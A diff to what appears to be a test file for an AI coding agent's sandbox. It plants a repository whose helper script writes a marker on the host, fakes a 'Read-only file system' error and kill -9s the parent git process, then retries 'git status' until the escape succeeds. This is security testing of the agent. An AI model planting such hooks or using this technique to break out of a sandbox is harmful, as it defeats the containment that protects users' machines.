@@ -82,13 +82,15 @@ async function plantRepository(workspace: string, marker: string): Promise<strin
   )
   await writeScript(
     helper,
-    `touch ${planted}/ran
-touch ${marker} && exit 1
+    `true > ${planted}/ran
+true > ${marker} && exit 1
 echo 'Read-only file system' >&2
 pid=$PPID
 while [ "$pid" -gt 1 ]; do
-  [ "$(cat /proc/$pid/comm)" = git ] && kill -9 "$pid"
-  pid=$(sed -n 's/^PPid:[^0-9]*//p' "/proc/$pid/status") || exit 1
+  read -r name < "/proc/$pid/comm"
+  while read -r key value; do [ "$key" = PPid: ] && parent=$value; done < "/proc/$pid/status"
+  [ "$name" = git ] && kill -9 "$pid"
+  pid=$parent
 done`
   )
   return planted
@@ -101,10 +103,14 @@ t.test('a planted repository runs no program, even when its git status is accept
     const marker = join(await scratchDirectory(t), 'host')
     const planted = await plantRepository(codex.workspace, marker)
     const threadId = await startBareThread(codex, UNTRUSTED)
-    await codex.turn(threadId, model.script([run('git status', { workdir: planted })]), UNTRUSTED)
-    t.strictSame(codex.asked, ["/bin/bash -lc 'git status'"])
+    // codex looks at what a command said only when it ends at once: on a busy machine the attacker needs patience.
+    for (let tries = 0; tries < 30 && !existsSync(marker); tries++) {
+      const status = run('git status', { workdir: planted, login: false })
+      await codex.turn(threadId, model.script([status]), UNTRUSTED)
+      t.equal(codex.asked.length, tries + 1, 'one answer')
+    }
     t.ok(existsSync(join(planted, 'ran')), 'in the sandbox')
-    t.ok(existsSync(marker), 'and then on the host')
+    t.ok(existsSync(marker), 'and on the host')
   })
 
   const stage = await startStage(t, { APPROVAL_MODE: 'strict' })
